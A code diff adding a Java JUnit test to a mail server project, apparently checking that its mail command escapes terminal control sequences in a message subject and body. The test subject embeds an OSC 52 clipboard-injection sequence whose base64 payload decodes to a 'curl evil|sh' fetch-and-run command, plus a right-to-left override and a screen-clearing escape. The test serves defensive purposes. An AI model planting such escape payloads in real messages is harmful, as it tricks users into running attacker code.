@@ -3,9 +3,12 @@ package io.extauth.localstack;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
+import java.io.ByteArrayOutputStream;
 import java.io.IOException;
+import java.io.PrintStream;
 import java.net.InetAddress;
 import java.net.ServerSocket;
+import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Duration;
@@ -26,6 +29,7 @@ import jakarta.mail.internet.MimeMessage;
 import jakarta.mail.internet.MimeMultipart;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
+import picocli.CommandLine;
 
 class MailServerIntegrationTest {
 
@@ -276,6 +280,32 @@ class MailServerIntegrationTest {
             assertThat(Ports.holder(port)).hasValue("this process (pid " + ProcessHandle.current().pid() + ")");
         } finally {
             smtp.stop();
+        }
+    }
+
+    @Test
+    void extauthMailShowsASubjectAndABodyWithTheirEscapesWrittenOutNeverSentToTheTerminal() throws Exception {
+        try (MailServer server = new MailServer(0, 0, mailDir).start()) {
+            // anyone on the machine may send to the stack's SMTP server: \e]52 writes the reader's clipboard
+            MimeMessage message = message(server, "Reset \u001b]52;c;Y3VybCBldmlsfHNo\u0007 \u202edone",
+                    "jane@example.com");
+            message.setText("line one\n\u001b[2Jcleared\n");
+            Transport.send(message);
+
+            PrintStream terminal = System.out;
+            ByteArrayOutputStream printed = new ByteArrayOutputStream();
+            System.setOut(new PrintStream(printed, true, StandardCharsets.UTF_8));
+            int code;
+            try {
+                code = new CommandLine(new MailCommand()).execute("--mail-api-port", String.valueOf(server.apiPort()));
+            } finally {
+                System.setOut(terminal);
+            }
+
+            String shown = printed.toString(StandardCharsets.UTF_8);
+            assertThat(code).isZero();
+            assertThat(shown).contains("Subject: Reset \\u001b]52;c;Y3VybCBldmlsfHNo\\u0007 \\u202edone",
+                    "    \\u001b[2Jcleared").doesNotContain("\u001b", "\u0007", "\u202e");
         }
     }
 
